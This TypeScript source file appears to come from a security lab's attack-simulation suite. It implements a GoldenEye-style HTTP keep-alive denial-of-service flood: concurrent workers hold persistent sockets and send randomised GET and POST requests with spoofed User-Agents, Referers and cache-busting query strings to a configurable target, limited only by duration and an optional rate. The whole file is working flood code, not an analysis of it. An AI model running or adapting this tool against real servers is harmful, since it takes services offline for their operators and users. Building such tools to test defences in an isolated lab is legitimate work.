/**
 * HTTP keep-alive flood in the manner of GoldenEye. Each worker keeps its own connections open
 * and sends request after request on them, mostly GET with some POST. Paths, query strings and
 * headers are random (Keep-Alive value, no-cache, User-Agent, Referer). A test tool for the lab,
 * bounded by duration and an optional rate.
 *
 * Usage: node --import tsx lab/attacks/goldeneye.ts '<HttpAttackConfig JSON>'
 */
import http from 'node:http';
import { SeededRandom } from '../random.ts';
import { REFERERS, USER_AGENTS } from '../agents/user-agents.ts';
import { RateLimiter } from './rate-limiter.ts';
import { createCounters, hostHeader, printResult, readAttackConfig, sendCountedRequest, stopSignal } from './http-flood-common.ts';

const SOCKETS_PER_WORKER = 2;
const POST_SHARE = 0.1;

const config = readAttackConfig('goldeneye');
const signal = stopSignal(config.durationMs);
const counters = createCounters('goldeneye');
const limiter = new RateLimiter(config.maxRequestsPerSecond);

function randomPath(random: SeededRandom): string {
  const params = Array.from({ length: random.int(1, 3) }, () => `${random.token(random.int(3, 10))}=${random.token(random.int(3, 20))}`);
  return `/${random.pick(['', 'index.html', 'pages/p1.html', random.token(6)])}?${params.join('&')}`;
}

function oneRequest(agent: http.Agent, random: SeededRandom): Promise<void> {
  const isPost = random.next() < POST_SHARE;
  const body = isPost ? `${random.token(5)}=${random.token(random.int(10, 60))}` : undefined;
  const headers: Record<string, string> = {
    Host: hostHeader(config.targetAddress, config.port),
    'User-Agent': random.pick(USER_AGENTS),
    'Cache-Control': 'no-cache',
    'Accept-Encoding': random.pick(['gzip, deflate', 'identity', '*', 'gzip']),
    Referer: `${random.pick(REFERERS)}${random.token(random.int(5, 10))}`,
    'Keep-Alive': String(random.int(1, 5000)),
    Connection: 'keep-alive',
  };
  if (body) {
    headers['Content-Type'] = 'application/x-www-form-urlencoded';
    headers['Content-Length'] = String(body.length);
  }
  const method = isPost ? 'POST' : 'GET';
  return sendCountedRequest({ host: config.targetAddress, port: config.port, method, path: randomPath(random), headers, agent }, counters, body);
}

async function worker(random: SeededRandom): Promise<void> {
  const agent = new http.Agent({ keepAlive: true, maxSockets: SOCKETS_PER_WORKER });
  const lanes = Array.from({ length: SOCKETS_PER_WORKER }, async () => {
    while (!signal.aborted) {
      await limiter.take();
      if (signal.aborted) break;
      await oneRequest(agent, random);
    }
  });
  await Promise.all(lanes);
  agent.destroy();
}

const root = new SeededRandom(config.seed);
const workers = Array.from({ length: config.concurrency }, (_, i) => worker(new SeededRandom(root.derive(`w${i}`))));
await Promise.all(workers);
counters.connections = config.concurrency * SOCKETS_PER_WORKER;
printResult(counters);
process.exit(0);
